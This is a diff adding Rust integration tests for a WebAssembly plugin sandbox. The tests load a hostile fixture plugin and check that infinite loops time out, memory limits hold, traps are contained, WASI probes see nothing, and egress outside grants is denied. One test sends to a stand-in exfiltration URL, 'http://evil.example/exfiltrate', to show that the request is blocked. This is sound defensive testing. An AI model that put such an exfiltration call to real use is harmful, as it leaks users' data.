@@ -1,0 +1,299 @@
+//! Sandbox proof: deliberately hostile components cannot take the host down, escape
+//! their limits, reach the network or see the host through WASI.
+
+use std::sync::atomic::Ordering;
+use std::time::{Duration, Instant};
+use switchboard::plugins::bundled::{self, WASM_DIR};
+use switchboard::plugins::capture::CaptureServer;
+use switchboard::plugins::types::{Content, Message, SendOutcome, SignatureError, SmsMessage};
+use switchboard::plugins::{Grants, Plugin, PluginError, PluginRuntime, RuntimeConfig};
+
+fn runtime(guest_time: Duration) -> PluginRuntime {
+    PluginRuntime::new(RuntimeConfig {
+        guest_time_budget: guest_time,
+        send_guest_time_budget: guest_time,
+        http_timeout: Duration::from_millis(500),
+        max_instances: 16,
+        ..RuntimeConfig::default()
+    })
+    .expect("runtime")
+}
+
+fn fixture(name: &str) -> Vec<u8> {
+    let path = format!("{WASM_DIR}/switchboard_fixture_{name}.wasm");
+    std::fs::read(&path)
+        .unwrap_or_else(|e| panic!("fixture {path} missing (built by host/build.rs): {e}"))
+}
+
+async fn hostile(rt: &PluginRuntime, grants: Grants<'_>) -> Plugin {
+    rt.load(&fixture("hostile"), grants)
+        .await
+        .expect("hostile fixture loads")
+}
+
+async fn provc(rt: &PluginRuntime) -> Plugin {
+    rt.load(bundled::find("provc").unwrap().wasm, Grants::Declared)
+        .await
+        .unwrap()
+}
+
+/// A provC signature check that must succeed: proof the host still serves.
+async fn healthy_call(plugin: &Plugin) {
+    let body = b"{}";
+    let sig = hex::encode(switchboard::crypto::hmac_sha256(b"k", body));
+    let headers = vec![("X-provC-Signature".to_string(), sig)];
+    assert_eq!(
+        plugin.verify_signature("k", &headers, body, 0).await,
+        Ok(Ok(()))
+    );
+}
+
+fn sms(event_id: &str) -> Message {
+    Message {
+        event_id: event_id.into(),
+        subscriber_id: "s".into(),
+        content: Content::Sms(SmsMessage {
+            to: "+14155550100".into(),
+            sender: None,
+            text: "hi".into(),
+        }),
+        extra_params: vec![],
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn infinite_loop_is_interrupted_while_the_host_keeps_serving() {
+    let rt = runtime(Duration::from_millis(800));
+    let bad = hostile(&rt, Grants::Declared).await;
+    let good = provc(&rt).await;
+
+    let started = Instant::now();
+    let looping = tokio::spawn({
+        let bad = bad.clone();
+        async move { bad.verify_signature("loop", &[], b"", 0).await }
+    });
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    for _ in 0..10 {
+        healthy_call(&good).await;
+    }
+    assert!(
+        !looping.is_finished(),
+        "the loop should still be running while others are served"
+    );
+    let result = looping.await.unwrap();
+    let elapsed = started.elapsed();
+    assert_eq!(
+        result,
+        Err(PluginError::Timeout(Duration::from_millis(800)))
+    );
+    assert!(
+        elapsed >= Duration::from_millis(800),
+        "interrupted too early: {elapsed:?}"
+    );
+    assert!(
+        elapsed < Duration::from_secs(3),
+        "interrupted too late: {elapsed:?}"
+    );
+    assert_eq!(bad.stats().failures.load(Ordering::Relaxed), 1);
+    // The plugin itself is still usable: the next call gets a fresh instance.
+    assert_eq!(bad.verify_signature("fine", &[], b"", 0).await, Ok(Ok(())));
+}
+
+#[tokio::test]
+async fn memory_hog_is_stopped_at_the_limit() {
+    let rt = runtime(Duration::from_secs(5));
+    let bad = hostile(&rt, Grants::Declared).await;
+    let limit = rt.config().memory_limit_bytes;
+    assert_eq!(limit, 32 << 20, "default limit is 32 MiB");
+    assert_eq!(
+        bad.verify_signature("hog", &[], b"", 0).await,
+        Err(PluginError::MemoryLimit(limit))
+    );
+    healthy_call(&provc(&rt).await).await;
+    assert_eq!(bad.verify_signature("fine", &[], b"", 0).await, Ok(Ok(())));
+}
+
+#[tokio::test]
+async fn traps_are_reported_as_failed_calls() {
+    let rt = runtime(Duration::from_secs(2));
+    let bad = hostile(&rt, Grants::Declared).await;
+    match bad.verify_signature("trap", &[], b"", 0).await {
+        Err(PluginError::Trap(msg)) => assert!(
+            msg.contains("unreachable"),
+            "panic=abort traps as unreachable: {msg}"
+        ),
+        other => panic!("expected a trap, got {other:?}"),
+    }
+    match bad.verify_signature("recurse", &[], b"x", 0).await {
+        // The shadow stack lives in linear memory: overflowing it is an out-of-bounds trap.
+        Err(PluginError::Trap(msg)) => assert!(
+            msg.contains("out of bounds") || msg.contains("stack"),
+            "stack overflow: {msg}"
+        ),
+        other => panic!("expected a stack-overflow trap, got {other:?}"),
+    }
+    assert_eq!(bad.stats().failures.load(Ordering::Relaxed), 2);
+    healthy_call(&provc(&rt).await).await;
+}
+
+#[tokio::test]
+async fn a_session_is_discarded_after_a_trap() {
+    let rt = runtime(Duration::from_secs(2));
+    let bad = hostile(&rt, Grants::Declared).await;
+    let mut session = bad
+        .session(switchboard::plugins::runtime::CallKind::Quick)
+        .await
+        .unwrap();
+    assert!(session.verify_signature("trap", &[], b"", 0).await.is_err());
+    match session.verify_signature("fine", &[], b"", 0).await {
+        Err(PluginError::Trap(msg)) => assert!(msg.contains("discarded"), "{msg}"),
+        other => panic!("a trapped instance must not be reused, got {other:?}"),
+    }
+}
+
+#[tokio::test]
+async fn wasi_grants_no_environment_files_clocks_or_sockets() {
+    let rt = runtime(Duration::from_secs(2));
+    let bad = hostile(&rt, Grants::Declared).await;
+    // SAFETY-free: the test process certainly has an environment, /etc and a clock.
+    assert!(std::env::vars().next().is_some());
+    for probe in ["env", "file", "dir", "clock", "socket"] {
+        assert_eq!(
+            bad.verify_signature(probe, &[], b"", 0).await,
+            Ok(Err(SignatureError::Mismatch)),
+            "probe {probe:?} saw something it should not"
+        );
+    }
+}
+
+#[tokio::test]
+async fn egress_outside_the_grant_is_denied() {
+    let rt = runtime(Duration::from_secs(2));
+    let capture = CaptureServer::start().await.unwrap();
+    let config = |url: &str| vec![("target_url".to_string(), url.to_string())];
+
+    // Declared grant is `127.0.0.1` (any port): a host name outside it is denied.
+    let declared = hostile(&rt, Grants::Declared).await;
+    let outcome = declared
+        .send(&config("http://evil.example/exfiltrate"), &sms("evt_1"))
+        .await
+        .unwrap();
+    assert!(
+        matches!(&outcome, SendOutcome::Rejected(r) if r.code == "egress-denied" && !r.retryable),
+        "{outcome:?}"
+    );
+    assert_eq!(declared.stats().egress_denied.load(Ordering::Relaxed), 1);
+    assert_eq!(
+        declared.stats().denied_hosts(),
+        vec!["evil.example".to_string()]
+    );
+
+    // The operator grants nothing: even the capture server on loopback is unreachable.
+    let nothing: Vec<String> = vec![];
+    let denied = hostile(&rt, Grants::Exactly(&nothing)).await;
+    let outcome = denied
+        .send(&config(&capture.url()), &sms("evt_2"))
+        .await
+        .unwrap();
+    assert!(
+        matches!(&outcome, SendOutcome::Rejected(r) if r.code == "egress-denied"),
+        "{outcome:?}"
+    );
+    assert!(
+        capture.take_requests().is_empty(),
+        "a denied request must never leave the host"
+    );
+
+    // Granted exactly: the request arrives.
+    let grant = vec![capture.host_port()];
+    let granted = hostile(&rt, Grants::Exactly(&grant)).await;
+    let outcome = granted
+        .send(&config(&format!("{}/in", capture.url())), &sms("evt_3"))
+        .await
+        .unwrap();
+    assert!(
+        matches!(&outcome, SendOutcome::Accepted(a) if a.provider_message_id == "got-200"),
+        "{outcome:?}"
+    );
+    let requests = capture.take_requests();
+    assert_eq!(requests.len(), 1);
+    assert_eq!(requests[0].path, "/in");
+    assert_eq!(granted.stats().http_requests.load(Ordering::Relaxed), 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn more_calls_than_instance_slots_all_complete() {
+    let rt = runtime(Duration::from_secs(2));
+    let good = provc(&rt).await;
+    let tasks: Vec<_> = (0..200)
+        .map(|_| {
+            let good = good.clone();
+            tokio::spawn(async move { healthy_call(&good).await })
+        })
+        .collect();
+    for t in tasks {
+        t.await.unwrap();
+    }
+}
+
+#[tokio::test]
+async fn compiled_components_are_cached_on_disk() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = RuntimeConfig {
+        cache_dir: Some(dir.path().to_path_buf()),
+        ..RuntimeConfig::default()
+    };
+    let wasm = bundled::find("prove").unwrap().wasm;
+    let first = PluginRuntime::new(config.clone())
+        .unwrap()
+        .load(wasm, Grants::Declared)
+        .await
+        .unwrap();
+    let files: Vec<_> = std::fs::read_dir(dir.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert_eq!(files.len(), 1, "{files:?}");
+    assert!(files[0].to_string_lossy().starts_with(first.digest()));
+    // A second runtime (a restart) loads the artifact and the plugin works.
+    let second = PluginRuntime::new(config)
+        .unwrap()
+        .load(wasm, Grants::Declared)
+        .await
+        .unwrap();
+    assert_eq!(
+        second.normalize_call_state("COMPLETED").await,
+        Ok(switchboard::plugins::types::DeliveryStatus::Delivered)
+    );
+    // A corrupt artifact is replaced, not trusted.
+    let path = dir.path().join(&files[0]);
+    std::fs::write(&path, b"garbage").unwrap();
+    let third = PluginRuntime::new(RuntimeConfig {
+        cache_dir: Some(dir.path().to_path_buf()),
+        ..RuntimeConfig::default()
+    })
+    .unwrap()
+    .load(wasm, Grants::Declared)
+    .await
+    .unwrap();
+    assert_eq!(
+        third.normalize_call_state("BUSY").await,
+        Ok(switchboard::plugins::types::DeliveryStatus::Failed)
+    );
+    assert!(std::fs::read(&path).unwrap().len() > 1000);
+}
+
+#[tokio::test]
+async fn not_a_component_is_rejected_with_a_reason() {
+    let rt = runtime(Duration::from_secs(1));
+    match rt.load(b"\0asm\x01\0\0\0", Grants::Declared).await {
+        Err(PluginError::Invalid(msg)) => {
+            assert!(msg.contains("not a loadable component"), "{msg}")
+        }
+        other => panic!("{other:?}"),
+    }
+    assert!(matches!(
+        rt.load(b"hello", Grants::Declared).await,
+        Err(PluginError::Invalid(_))
+    ));
+}
